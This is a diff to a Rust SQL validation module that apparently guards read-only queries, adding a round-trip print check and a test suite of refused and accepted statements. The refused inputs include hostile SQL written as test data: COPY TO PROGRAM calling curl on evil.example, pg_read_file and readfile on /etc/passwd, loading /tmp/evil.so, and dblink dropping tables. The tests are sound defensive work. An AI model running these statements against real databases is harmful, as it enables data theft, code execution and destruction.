@@ -265,11 +265,15 @@ pub fn guard(
     }
     apply_limit(&mut query, dialect, limit);
     let executed_sql = query.to_string();
-    // What runs is the printed text, so it must pass the same checks as the input did. A
-    // printer that dropped quotes or escapes would show up here as a refusal, not as SQL
-    // that differs from what was checked.
+    // What runs is the printed text, so it must pass the same checks as the input did and
+    // print back to itself. A printer that dropped quotes or escapes shows up here as a
+    // refusal, not as SQL that differs from what was checked. (Text, not tree, equality:
+    // comparing trees recurses deeper than the stack allows on long flat chains.)
     let reparsed = parse_one_query(&executed_sql, dialect)?;
     check_query(&reparsed)?;
+    if reparsed.to_string() != executed_sql {
+        return Err(refuse("the SQL could not be printed back faithfully"));
+    }
     Ok(Guarded {
         executed_sql,
         limit,
@@ -433,9 +437,7 @@ fn lone_table_command(
     while words.last().is_some_and(|t| t.token == Token::SemiColon) {
         words.pop();
     }
-    let Some((first, rest)) = words.split_first() else {
-        return None;
-    };
+    let (first, rest) = words.split_first()?;
     match &first.token {
         Token::Word(w) if w.keyword == Keyword::TABLE && w.quote_style.is_none() => {}
         _ => return None,
@@ -743,5 +745,609 @@ fn means_no_limit(expr: &Expr, dialect: Dialect) -> bool {
         } => dialect == Dialect::Sqlite && matches!(**expr, Expr::Value(_)),
         Expr::Nested(inner) => means_no_limit(inner, dialect),
         _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PG: Dialect = Dialect::Postgres;
+    const LITE: Dialect = Dialect::Sqlite;
+
+    fn orders() -> TableName {
+        TableName {
+            schema: Some("public".into()),
+            name: "orders".into(),
+        }
+    }
+
+    fn run(dialect: Dialect, sql: &str) -> Result<Guarded> {
+        guard(sql, dialect, Some(&orders()), DEFAULT_LIMIT)
+    }
+
+    fn executed(dialect: Dialect, sql: &str) -> String {
+        match run(dialect, sql) {
+            Ok(g) => g.executed_sql,
+            Err(e) => panic!("{sql:?} was refused: {e}"),
+        }
+    }
+
+    fn refusal(dialect: Dialect, sql: &str) -> String {
+        match run(dialect, sql) {
+            Err(Error::Invalid(m)) => {
+                assert!(m.starts_with(REFUSAL_PREFIX), "{sql:?}: {m:?}");
+                m
+            }
+            other => panic!("{sql:?} was not refused: {other:?}"),
+        }
+    }
+
+    /// One test per hostile input: `name: dialect, sql => a fragment of the refusal`.
+    macro_rules! refused {
+        ($($name:ident: $dialect:expr, $sql:expr => $fragment:expr;)+) => {$(
+            #[test]
+            fn $name() {
+                let msg = refusal($dialect, $sql);
+                assert!(msg.contains($fragment), "{:?}: want {:?} in {:?}", $sql, $fragment, msg);
+            }
+        )+};
+    }
+
+    /// One test per statement that is not a query: the seed's exact message.
+    macro_rules! not_a_query {
+        ($($name:ident: $dialect:expr, $sql:expr;)+) => {$(
+            #[test]
+            fn $name() {
+                assert_eq!(refusal($dialect, $sql), ONLY_SELECT, "{:?}", $sql);
+            }
+        )+};
+    }
+
+    /// One test per accepted input, with the exact SQL that will run.
+    macro_rules! passes {
+        ($($name:ident: $dialect:expr, $sql:expr => $expected:expr;)+) => {$(
+            #[test]
+            fn $name() {
+                assert_eq!(executed($dialect, $sql), $expected, "{:?}", $sql);
+            }
+        )+};
+    }
+
+    // ---- hostile: more than one statement, comment and quote tricks ----
+
+    refused! {
+        multi_select_then_delete: PG, "SELECT 1; DELETE FROM orders" => "multiple statements are not allowed (found 2)";
+        multi_delete_after_line_comment_on_next_line: PG, "SELECT 1; -- \nDELETE FROM orders" => "(found 2)";
+        multi_commit_then_drop: PG, "SELECT 1; COMMIT; DROP TABLE orders" => "(found 3)";
+        multi_semicolon_in_block_comment_does_not_merge: PG, "SELECT 1 /* ; */; DELETE FROM orders" => "(found 2)";
+        multi_semicolon_in_string_is_one_statement_but_second_is_real: PG, "SELECT ';'; DELETE FROM orders" => "(found 2)";
+        multi_sqlite_then_attach: LITE, "SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x" => "(found 2)";
+        multi_sqlite_then_pragma: LITE, "SELECT 1; PRAGMA writable_schema = 1" => "(found 2)";
+        comment_split_keyword_after_select_is_parse_error: PG, "SELECT 1; DEL/**/ETE FROM orders" => "could not parse SQL";
+        nul_character: PG, "SELECT 1\0; DROP TABLE orders" => "NUL character";
+        nul_character_in_comment: LITE, "SELECT 1 -- \0" => "NUL character";
+        unicode_escaped_identifier_pg: PG, "SELECT U&\"\\006Eextval\"('s')" => "Unicode-escaped identifiers";
+        unterminated_string_is_parse_error: PG, "SELECT 'abc" => "could not parse SQL: Unterminated string literal";
+        unterminated_dollar_quote_is_parse_error: PG, "SELECT $$abc" => "could not parse SQL";
+        empty_sql: PG, "" => "no SQL statement found";
+        only_a_comment: PG, "-- SELECT 1" => "no SQL statement found";
+        only_semicolons: LITE, " ; ;" => "no SQL statement found";
+        table_inside_set_operation: PG, "SELECT 1 UNION TABLE orders" => "TABLE … is only supported as a whole statement";
+        table_with_trailing_clause: PG, "TABLE orders LIMIT 5" => "TABLE is only supported on its own";
+        nesting_too_deep_is_parse_error: PG, &format!("SELECT {}1{}", "(".repeat(200), ")".repeat(200)) => "nested too deeply";
+    }
+
+    not_a_query! {
+        comment_split_keyword_alone: PG, "DEL/**/ETE FROM orders";
+        block_comment_before_delete: PG, "/* SELECT */ DELETE FROM orders";
+    }
+
+    // ---- hostile: writes hidden in CTEs and subqueries ----
+
+    refused! {
+        cte_delete_unreferenced: PG, "WITH d AS (DELETE FROM orders RETURNING *) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
+        cte_insert_referenced: PG, "WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i" => "data-modifying CTE \"i\" (INSERT)";
+        cte_update: PG, "WITH u AS (UPDATE orders SET total = 0 RETURNING *) SELECT count(*) FROM u" => "data-modifying CTE \"u\" (UPDATE)";
+        cte_merge: PG, "WITH m AS (MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT 1" => "data-modifying CTE \"m\" (MERGE)";
+        cte_delete_second_in_list: PG, "WITH a AS (SELECT 1), d AS (DELETE FROM orders RETURNING 1) SELECT * FROM a" => "data-modifying CTE \"d\" (DELETE)";
+        cte_delete_recursive: PG, "WITH RECURSIVE d AS (DELETE FROM orders RETURNING *) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
+        cte_delete_nested_in_cte: PG, "WITH a AS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1) SELECT * FROM a" => "data-modifying CTE \"d\" (DELETE)";
+        cte_delete_in_where_subquery: PG, "SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1)" => "data-modifying CTE \"d\" (DELETE)";
+        cte_delete_in_derived_table: PG, "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1) s" => "data-modifying CTE \"d\" (DELETE)";
+        cte_insert_in_union_branch: PG, "SELECT 1 UNION ALL (WITH i AS (INSERT INTO orders DEFAULT VALUES RETURNING 1) SELECT 2)" => "data-modifying CTE \"i\" (INSERT)";
+        cte_delete_sqlite: LITE, "WITH d AS (DELETE FROM orders RETURNING *) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
+        write_statement_in_derived_table: PG, "SELECT * FROM (WITH x AS (SELECT 1) DELETE FROM orders RETURNING *) s" => "data-modifying statement (DELETE) inside the query";
+        select_into: PG, "SELECT * INTO stolen FROM orders" => "SELECT … INTO is not allowed";
+        select_into_temp: PG, "SELECT * INTO TEMP stolen FROM orders" => "SELECT … INTO is not allowed";
+        select_into_in_union_branch: PG, "SELECT 1 UNION SELECT 2 INTO stolen" => "SELECT … INTO is not allowed";
+        select_into_inside_cte: PG, "WITH a AS (SELECT 1 INTO stolen) SELECT 1" => "SELECT … INTO is not allowed";
+    }
+
+    not_a_query! {
+        with_then_delete: PG, "WITH x AS (SELECT 1) DELETE FROM orders";
+        with_then_insert: PG, "WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x";
+        with_then_update: LITE, "WITH x AS (SELECT 1) UPDATE orders SET total = 0";
+    }
+
+    // ---- hostile: locking clauses ----
+
+    refused! {
+        lock_for_update: PG, "SELECT * FROM orders FOR UPDATE" => "locking clause FOR UPDATE is not allowed";
+        lock_for_share_nowait: PG, "SELECT * FROM orders FOR SHARE NOWAIT" => "locking clause FOR SHARE NOWAIT";
+        lock_for_update_of_skip_locked: PG, "SELECT * FROM orders FOR UPDATE OF orders SKIP LOCKED" => "FOR UPDATE OF orders SKIP LOCKED";
+        lock_before_limit: PG, "SELECT * FROM orders FOR UPDATE LIMIT 1" => "locking clause FOR UPDATE";
+        lock_in_derived_table: PG, "SELECT * FROM (SELECT * FROM orders FOR UPDATE) s" => "locking clause FOR UPDATE";
+        lock_in_cte: PG, "WITH l AS (SELECT * FROM orders FOR SHARE) SELECT * FROM l" => "locking clause FOR SHARE";
+        lock_in_where_subquery: PG, "SELECT 1 WHERE 1 IN (SELECT id FROM orders FOR UPDATE)" => "locking clause FOR UPDATE";
+        lock_for_no_key_update_refused_by_parse_error: PG, "SELECT * FROM orders FOR NO KEY UPDATE" => "could not parse SQL";
+        lock_for_key_share_refused_by_parse_error: PG, "SELECT * FROM orders FOR KEY SHARE" => "could not parse SQL";
+    }
+
+    // ---- hostile: statements that are not queries (the seed's message) ----
+
+    not_a_query! {
+        copy_to_file: PG, "COPY orders TO '/tmp/orders.csv'";
+        copy_query_to_program: PG, "COPY (SELECT 1) TO PROGRAM 'curl evil.example'";
+        copy_from_stdin: PG, "COPY orders FROM STDIN";
+        set_statement_timeout: PG, "SET statement_timeout = 0";
+        set_role: PG, "SET ROLE postgres";
+        set_session_authorization: PG, "SET SESSION AUTHORIZATION postgres";
+        set_transaction_read_write: PG, "SET TRANSACTION READ WRITE";
+        reset_all: PG, "RESET ALL";
+        begin: PG, "BEGIN";
+        start_transaction_read_write: PG, "START TRANSACTION READ WRITE";
+        commit: PG, "COMMIT";
+        rollback: PG, "ROLLBACK";
+        savepoint: PG, "SAVEPOINT s";
+        release_savepoint: PG, "RELEASE SAVEPOINT s";
+        do_block: PG, "DO $$ BEGIN DELETE FROM orders; END $$";
+        call_procedure: PG, "CALL cleanup()";
+        prepare_delete: PG, "PREPARE p AS DELETE FROM orders";
+        execute_prepared: PG, "EXECUTE p";
+        listen: PG, "LISTEN channel";
+        notify: PG, "NOTIFY channel, 'x'";
+        unlisten: PG, "UNLISTEN *";
+        vacuum: PG, "VACUUM orders";
+        vacuum_full: PG, "VACUUM FULL";
+        analyze: PG, "ANALYZE orders";
+        explain_analyze_delete: PG, "EXPLAIN ANALYZE DELETE FROM orders";
+        explain_select_is_not_a_select: PG, "EXPLAIN SELECT 1";
+        create_table: PG, "CREATE TABLE t (id int)";
+        create_table_as: PG, "CREATE TABLE t AS SELECT * FROM orders";
+        create_function: PG, "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql";
+        create_extension: PG, "CREATE EXTENSION dblink";
+        alter_table: PG, "ALTER TABLE orders ADD COLUMN x int";
+        alter_system: PG, "ALTER SYSTEM SET log_statement = 'none'";
+        drop_table: PG, "DROP TABLE orders";
+        grant: PG, "GRANT ALL ON orders TO public";
+        revoke: PG, "REVOKE ALL ON orders FROM public";
+        truncate: PG, "TRUNCATE orders";
+        insert: PG, "INSERT INTO orders (id) VALUES (1)";
+        update: PG, "UPDATE orders SET total = 0";
+        delete: PG, "DELETE FROM orders";
+        merge: PG, "MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE";
+        lock_table: PG, "LOCK TABLE orders";
+        discard_all: PG, "DISCARD ALL";
+        checkpoint: PG, "CHECKPOINT";
+        reindex: PG, "REINDEX TABLE orders";
+        cluster: PG, "CLUSTER orders";
+        refresh_materialized_view: PG, "REFRESH MATERIALIZED VIEW v";
+        load_library: PG, "LOAD 'plugin'";
+        declare_cursor: PG, "DECLARE c CURSOR FOR SELECT 1";
+        fetch_cursor: PG, "FETCH c";
+        comment_on: PG, "COMMENT ON TABLE orders IS 'x'";
+        lowercase_delete: PG, "delete from orders";
+        sqlite_attach: LITE, "ATTACH DATABASE '/tmp/x.db' AS x";
+        sqlite_detach: LITE, "DETACH x";
+        sqlite_pragma_write: LITE, "PRAGMA writable_schema = 1";
+        sqlite_pragma_read_is_not_a_select: LITE, "PRAGMA journal_mode";
+        sqlite_vacuum_into: LITE, "VACUUM INTO '/tmp/copy.db'";
+        sqlite_replace_into: LITE, "REPLACE INTO orders VALUES (1)";
+        sqlite_insert: LITE, "INSERT INTO orders VALUES (1)";
+        sqlite_create_trigger: LITE, "CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM orders; END";
+        sqlite_drop_table: LITE, "DROP TABLE orders";
+        sqlite_begin_immediate: LITE, "BEGIN IMMEDIATE";
+    }
+
+    // ---- hostile: functions with side effects, wherever they are called ----
+
+    refused! {
+        fn_terminate_backend_in_select_list: PG, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity" => "calls pg_terminate_backend (backend signalling)";
+        fn_cancel_backend_in_where: PG, "SELECT 1 FROM pg_stat_activity WHERE pg_cancel_backend(pid)" => "calls pg_cancel_backend (backend signalling)";
+        fn_schema_qualified: PG, "SELECT pg_catalog.pg_terminate_backend(1)" => "calls pg_catalog.pg_terminate_backend (backend signalling)";
+        fn_mixed_case: PG, "SELECT PG_Terminate_Backend(1)" => "calls PG_Terminate_Backend (backend signalling)";
+        fn_quoted: PG, "SELECT \"pg_terminate_backend\"(1)" => "(backend signalling)";
+        fn_quoted_uppercase_refused_too: PG, "SELECT pg_catalog.\"PG_TERMINATE_BACKEND\"(1)" => "(backend signalling)";
+        fn_comment_before_parenthesis: PG, "SELECT pg_terminate_backend/* x */(1)" => "(backend signalling)";
+        fn_log_memory_contexts: PG, "SELECT pg_log_backend_memory_contexts(1)" => "(backend signalling)";
+        fn_set_config: PG, "SELECT set_config('statement_timeout', '0', false)" => "calls set_config (configuration setters)";
+        fn_reload_conf: PG, "SELECT pg_reload_conf()" => "(configuration setters)";
+        fn_advisory_lock_in_order_by: PG, "SELECT id FROM orders ORDER BY pg_advisory_lock(id)" => "calls pg_advisory_lock (advisory locks)";
+        fn_try_advisory_lock_in_having: PG, "SELECT count(*) FROM orders GROUP BY country HAVING pg_try_advisory_xact_lock(1)" => "(advisory locks)";
+        fn_advisory_lock_in_filter: PG, "SELECT count(*) FILTER (WHERE pg_advisory_lock(1) IS NULL) FROM orders" => "(advisory locks)";
+        fn_advisory_unlock_in_group_by: PG, "SELECT 1 FROM orders GROUP BY pg_advisory_unlock_all()" => "(advisory locks)";
+        fn_lo_import_in_scalar_subquery: PG, "SELECT * FROM orders WHERE id = (SELECT lo_import('/etc/passwd'))" => "calls lo_import (large objects)";
+        fn_lo_export: PG, "SELECT lo_export(16384, '/tmp/x')" => "(large objects)";
+        fn_lowrite: PG, "SELECT lowrite(0, 'x')" => "(large objects)";
+        fn_read_file_in_from: PG, "SELECT * FROM pg_read_file('/etc/passwd')" => "calls pg_read_file (server files and programs)";
+        fn_ls_dir_lateral: PG, "SELECT * FROM orders, LATERAL pg_ls_dir('.') AS f" => "calls pg_ls_dir (server files and programs)";
+        fn_ls_waldir_cross_join_lateral: PG, "SELECT * FROM orders CROSS JOIN LATERAL pg_ls_waldir() w" => "(server files and programs)";
+        fn_read_binary_file_in_cte: PG, "WITH f AS (SELECT pg_read_binary_file('/etc/passwd') AS b) SELECT * FROM f" => "(server files and programs)";
+        fn_stat_file_in_case: PG, "SELECT CASE WHEN true THEN pg_stat_file('base') END" => "(server files and programs)";
+        fn_read_file_in_xmltable: PG, "SELECT * FROM XMLTABLE('/x' PASSING pg_read_file('/etc/passwd') COLUMNS a int)" => "(server files and programs)";
+        fn_dblink_exec: PG, "SELECT dblink_exec('dbname=prod', 'DROP TABLE orders')" => "calls dblink_exec (dblink and foreign execution)";
+        fn_dblink_in_from: PG, "SELECT * FROM dblink('dbname=prod', 'DELETE FROM orders RETURNING 1') AS t(x int)" => "(dblink and foreign execution)";
+        fn_query_to_xml_runs_sql_text: PG, "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')" => "calls query_to_xml (dblink and foreign execution)";
+        fn_cursor_to_xml: PG, "SELECT cursor_to_xml('c', 1, true, false, '')" => "(dblink and foreign execution)";
+        fn_ts_stat_runs_sql_text: PG, "SELECT * FROM ts_stat('SELECT to_tsvector(note) FROM orders')" => "(dblink and foreign execution)";
+        fn_http_get: PG, "SELECT http_get('http://example.com')" => "(network requests)";
+        fn_create_replication_slot: PG, "SELECT pg_create_logical_replication_slot('s', 'pgoutput')" => "(replication slots and WAL/log control)";
+        fn_drop_replication_slot_in_from: PG, "SELECT * FROM pg_drop_replication_slot('s')" => "(replication slots and WAL/log control)";
+        fn_logical_slot_get_changes: PG, "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)" => "(replication slots and WAL/log control)";
+        fn_switch_wal: PG, "SELECT pg_switch_wal()" => "(replication slots and WAL/log control)";
+        fn_backup_start: PG, "SELECT pg_backup_start('x')" => "(replication slots and WAL/log control)";
+        fn_emit_message: PG, "SELECT pg_logical_emit_message(true, 'p', 'x')" => "(replication slots and WAL/log control)";
+        fn_rotate_logfile: PG, "SELECT pg_rotate_logfile()" => "(replication slots and WAL/log control)";
+        fn_promote: PG, "SELECT pg_promote()" => "(replication slots and WAL/log control)";
+        fn_wal_replay_pause: PG, "SELECT pg_wal_replay_pause()" => "(replication slots and WAL/log control)";
+        fn_notify_in_window_order: PG, "SELECT row_number() OVER (ORDER BY pg_notify('c', 'x')) FROM orders" => "calls pg_notify (notify)";
+        fn_notify_in_array_subquery: PG, "SELECT ARRAY(SELECT pg_notify('c', 'x'))" => "(notify)";
+        fn_nextval_in_values: PG, "VALUES (nextval('orders_id_seq'))" => "calls nextval (sequences)";
+        fn_setval_as_argument: PG, "SELECT coalesce(setval('s', 1), 0)" => "calls setval (sequences)";
+        fn_nextval_in_limit: PG, "SELECT 1 LIMIT (SELECT nextval('s'))" => "(sequences)";
+        fn_nextval_in_offset: PG, "SELECT 1 OFFSET nextval('s')" => "(sequences)";
+        fn_nextval_in_join_on: PG, "SELECT * FROM orders o JOIN items i ON i.id = nextval('s')" => "(sequences)";
+        fn_nextval_in_exists: PG, "SELECT 1 WHERE EXISTS (SELECT 1 FROM orders WHERE nextval('s') > 0)" => "(sequences)";
+        fn_nextval_in_union_branch: PG, "SELECT 1 UNION SELECT nextval('s')" => "(sequences)";
+        fn_nextval_in_function_argument: PG, "SELECT lower(nextval('s')::text)" => "(sequences)";
+        fn_stat_reset: PG, "SELECT pg_stat_reset()" => "calls pg_stat_reset (statistics reset)";
+        fn_stat_statements_reset: PG, "SELECT pg_stat_statements_reset()" => "(statistics reset)";
+        fn_brin_summarize: PG, "SELECT brin_summarize_new_values('i')" => "(catalog and index maintenance)";
+        fn_sqlite_load_extension: LITE, "SELECT load_extension('/tmp/evil.so')" => "calls load_extension (SQLite files and extensions)";
+        fn_sqlite_readfile: LITE, "SELECT readfile('/etc/passwd')" => "(SQLite files and extensions)";
+        fn_sqlite_writefile_in_where: LITE, "SELECT 1 FROM orders WHERE writefile('/tmp/x', 'y') > 0" => "(SQLite files and extensions)";
+        fn_sqlite_edit: LITE, "SELECT edit('x', 'vi')" => "(SQLite files and extensions)";
+        fn_sqlite_fts3_tokenizer: LITE, "SELECT fts3_tokenizer('simple', x'00')" => "(SQLite files and extensions)";
+        fn_sqlite_fsdir_in_from: LITE, "SELECT * FROM fsdir('/etc')" => "(SQLite files and extensions)";
+        fn_sqlite_upper_case: LITE, "SELECT LOAD_EXTENSION('x')" => "(SQLite files and extensions)";
+    }
+
+    // ---- hostile: size ----
+
+    #[test]
+    fn oversize_is_refused_before_parsing() {
+        let sql = format!("SELECT {}", "1".repeat(MAX_SQL_CHARS - 6));
+        assert_eq!(sql.chars().count(), MAX_SQL_CHARS + 1);
+        assert_eq!(
+            refusal(PG, &sql),
+            "SQL validation failed: the SQL is 10001 characters long; at most 10000 are allowed"
+        );
+        // Even garbage that would not parse is refused for its size first.
+        let junk = "\u{1}".repeat(MAX_SQL_CHARS + 1);
+        assert!(refusal(LITE, &junk).contains("10001 characters"));
+    }
+
+    #[test]
+    fn exactly_max_chars_passes() {
+        let sql = format!("SELECT 1 AS a{}", " ".repeat(MAX_SQL_CHARS - 13));
+        assert_eq!(sql.chars().count(), MAX_SQL_CHARS);
+        assert_eq!(executed(PG, &sql), "SELECT 1 AS a LIMIT 101");
+    }
+
+    #[test]
+    fn length_counts_characters_not_bytes() {
+        let body = "é".repeat(MAX_SQL_CHARS - 9);
+        let sql = format!("SELECT '{body}'");
+        assert_eq!(sql.chars().count(), MAX_SQL_CHARS);
+        assert!(sql.len() > MAX_SQL_CHARS);
+        assert!(run(PG, &sql).is_ok());
+    }
+
+    /// sqlparser's recursion limit stops nested parentheses, but a flat `1+1+…` chain is
+    /// parsed in a loop into a tree thousands of levels deep, which the walk, the print and
+    /// the drop then recurse through. 10,000 characters bound it at about 5,000 levels; this
+    /// runs the worst cases on half the stack of a tokio worker (2 MiB) to keep a margin.
+    #[test]
+    fn long_flat_chains_do_not_overflow_the_stack() {
+        let plus = format!("SELECT 1{}", "+1".repeat(4_995));
+        let ands = format!("SELECT 1 WHERE {}1=1", "1=1 AND ".repeat(1_240));
+        let casts = format!("SELECT 1{}", "::int".repeat(1_995));
+        let unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(660));
+        let worker = std::thread::Builder::new()
+            .stack_size(1024 * 1024)
+            .spawn(move || {
+                for sql in [plus, ands, casts, unions] {
+                    assert!(sql.chars().count() <= MAX_SQL_CHARS);
+                    assert!(run(PG, &sql).is_ok());
+                    assert!(run(LITE, &sql).is_ok());
+                }
+            })
+            .unwrap();
+        worker.join().unwrap();
+    }
+
+    // ---- limits of the request ----
+
+    #[test]
+    fn request_limit_must_be_1_to_1000() {
+        for bad in [0, MAX_LIMIT + 1] {
+            assert_eq!(
+                guard("SELECT 1", PG, None, bad),
+                Err(Error::Invalid(format!(
+                    "limit: must be from 1 to 1000, got {bad}"
+                )))
+            );
+        }
+        assert_eq!(
+            check_limit(-1),
+            Err(Error::Invalid(
+                "limit: must be from 1 to 1000, got -1".into()
+            ))
+        );
+        assert!(check_limit(0).is_err());
+        assert!(check_limit(1001).is_err());
+        assert_eq!(check_limit(1), Ok(1));
+        assert_eq!(check_limit(1000), Ok(1000));
+        assert_eq!(check_limit(DEFAULT_LIMIT as i64), Ok(DEFAULT_LIMIT));
+    }
+
+    // ---- legitimate queries ----
+
+    passes! {
+        ok_seed_filter: PG, "SELECT id, email, country FROM data WHERE country = 'US'"
+            => "SELECT id, email, country FROM \"public\".\"orders\" AS data WHERE country = 'US' LIMIT 101";
+        ok_seed_count: PG, "SELECT COUNT(*) AS total FROM data"
+            => "SELECT COUNT(*) AS total FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_seed_group_by: PG, "SELECT country, COUNT(*) AS n FROM data GROUP BY country ORDER BY n DESC"
+            => "SELECT country, COUNT(*) AS n FROM \"public\".\"orders\" AS data GROUP BY country ORDER BY n DESC LIMIT 101";
+        ok_seed_registered_name_with_limit: PG, "SELECT * FROM orders WHERE status = 'shipped' LIMIT 20"
+            => "SELECT * FROM orders WHERE status = 'shipped' LIMIT 20";
+        ok_joins: PG, "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN items i USING (order_id)"
+            => "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN items i USING(order_id) LIMIT 101";
+        ok_window_function: PG, "SELECT id, row_number() OVER (PARTITION BY country ORDER BY id) AS rn, sum(total) OVER w FROM data WINDOW w AS (ORDER BY id)"
+            => "SELECT id, row_number() OVER (PARTITION BY country ORDER BY id) AS rn, sum(total) OVER w FROM \"public\".\"orders\" AS data WINDOW w AS (ORDER BY id) LIMIT 101";
+        ok_cte: PG, "WITH us AS (SELECT * FROM data WHERE country = 'US') SELECT count(*) FROM us"
+            => "WITH us AS (SELECT * FROM \"public\".\"orders\" AS data WHERE country = 'US') SELECT count(*) FROM us LIMIT 101";
+        ok_recursive_cte: PG, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r"
+            => "WITH RECURSIVE r (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r LIMIT 101";
+        ok_values: PG, "VALUES (1, 'a'), (2, 'b')" => "VALUES (1, 'a'), (2, 'b') LIMIT 101";
+        ok_union_all: PG, "SELECT id FROM data UNION ALL SELECT id FROM archive"
+            => "SELECT id FROM \"public\".\"orders\" AS data UNION ALL SELECT id FROM archive LIMIT 101";
+        ok_intersect_except: PG, "SELECT id FROM a INTERSECT SELECT id FROM b EXCEPT SELECT id FROM c"
+            => "SELECT id FROM a INTERSECT SELECT id FROM b EXCEPT SELECT id FROM c LIMIT 101";
+        ok_casts: PG, "SELECT '1'::int, created_at::date, CAST(total AS numeric(10, 2)) FROM data"
+            => "SELECT '1'::INT, created_at::DATE, CAST(total AS NUMERIC(10,2)) FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_json_operators: PG, "SELECT payload->>'name', payload->'a'->'b', payload #>> '{a,b}' FROM data WHERE payload @> '{}'::jsonb"
+            => "SELECT payload ->> 'name', payload -> 'a' -> 'b', payload #>> '{a,b}' FROM \"public\".\"orders\" AS data WHERE payload @> '{}'::JSONB LIMIT 101";
+        ok_arrays: PG, "SELECT ARRAY[1,2,3], tags[1], 'a' = ANY(tags) FROM data"
+            => "SELECT ARRAY[1, 2, 3], tags[1], 'a' = ANY(tags) FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_ilike_and_regex: PG, "SELECT * FROM data WHERE email ILIKE '%@example.com' AND name ~* '^a'"
+            => "SELECT * FROM \"public\".\"orders\" AS data WHERE email ILIKE '%@example.com' AND name ~* '^a' LIMIT 101";
+        ok_generate_series_in_from: PG, "SELECT g FROM generate_series(1, 10) AS g"
+            => "SELECT g FROM generate_series(1, 10) AS g LIMIT 101";
+        ok_generate_series_with_ordinality: PG, "SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g(n, i)"
+            => "SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g (n, i) LIMIT 101";
+        ok_lateral_subquery: PG, "SELECT * FROM data d, LATERAL (SELECT count(*) FROM items i WHERE i.order_id = d.id) c"
+            => "SELECT * FROM \"public\".\"orders\" d, LATERAL (SELECT count(*) FROM items i WHERE i.order_id = d.id) c LIMIT 101";
+        ok_dollar_quoted_strings: PG, "SELECT $$delete from orders$$, $tag$DROP TABLE x$tag$"
+            => "SELECT $$delete from orders$$, $tag$DROP TABLE x$tag$ LIMIT 101";
+        ok_keyword_named_identifiers: PG, "SELECT \"delete\", \"drop\" FROM \"update\""
+            => "SELECT \"delete\", \"drop\" FROM \"update\" LIMIT 101";
+        ok_comments_with_delete: PG, "SELECT id -- delete from orders\nFROM data /* drop table orders; */"
+            => "SELECT id FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_string_that_looks_like_injection: PG, "SELECT * FROM data WHERE note = '; DROP TABLE x'"
+            => "SELECT * FROM \"public\".\"orders\" AS data WHERE note = '; DROP TABLE x' LIMIT 101";
+        ok_column_named_like_denied_function: PG, "SELECT nextval_count, setval, lo_total FROM data"
+            => "SELECT nextval_count, setval, lo_total FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_distinct_on: PG, "SELECT DISTINCT ON (country) country, id FROM data ORDER BY country, id"
+            => "SELECT DISTINCT ON (country) country, id FROM \"public\".\"orders\" AS data ORDER BY country, id LIMIT 101";
+        ok_dates_and_intervals: PG, "SELECT date_trunc('day', created_at), extract(year FROM created_at) FROM data WHERE created_at > now() - interval '1 day'"
+            => "SELECT date_trunc('day', created_at), EXTRACT(YEAR FROM created_at) FROM \"public\".\"orders\" AS data WHERE created_at > now() - INTERVAL '1 day' LIMIT 101";
+        ok_case_coalesce_nullif: PG, "SELECT CASE WHEN total > 1 THEN 'big' ELSE 'small' END, COALESCE(a, 0), NULLIF(b, '') FROM data"
+            => "SELECT CASE WHEN total > 1 THEN 'big' ELSE 'small' END, COALESCE(a, 0), NULLIF(b, '') FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_aggregate_filter_and_order: PG, "SELECT count(*) FILTER (WHERE total > 0), string_agg(email, ', ' ORDER BY email) FROM data"
+            => "SELECT count(*) FILTER (WHERE total > 0), string_agg(email, ', ' ORDER BY email) FROM \"public\".\"orders\" AS data LIMIT 101";
+        ok_subqueries: PG, "SELECT * FROM data WHERE id IN (SELECT order_id FROM items) AND EXISTS (SELECT 1 FROM customers)"
+            => "SELECT * FROM \"public\".\"orders\" AS data WHERE id IN (SELECT order_id FROM items) AND EXISTS (SELECT 1 FROM customers) LIMIT 101";
+        ok_pg_sleep_is_allowed: PG, "SELECT pg_sleep(0.1)" => "SELECT pg_sleep(0.1) LIMIT 101";
+        ok_read_only_sequence_and_settings: PG, "SELECT currval('s'), lastval(), current_setting('TimeZone')"
+            => "SELECT currval('s'), lastval(), current_setting('TimeZone') LIMIT 101";
+        ok_information_schema: PG, "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'"
+            => "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders' LIMIT 101";
+        ok_escape_string: PG, "SELECT E'it\\'s'" => "SELECT E'it\\'s' LIMIT 101";
+        ok_delete_as_bare_column_alias: PG, "SELECT 1 DELETE FROM orders" => "SELECT 1 AS DELETE FROM orders LIMIT 101";
+        ok_table_command: PG, "TABLE orders;" => "SELECT * FROM orders LIMIT 101";
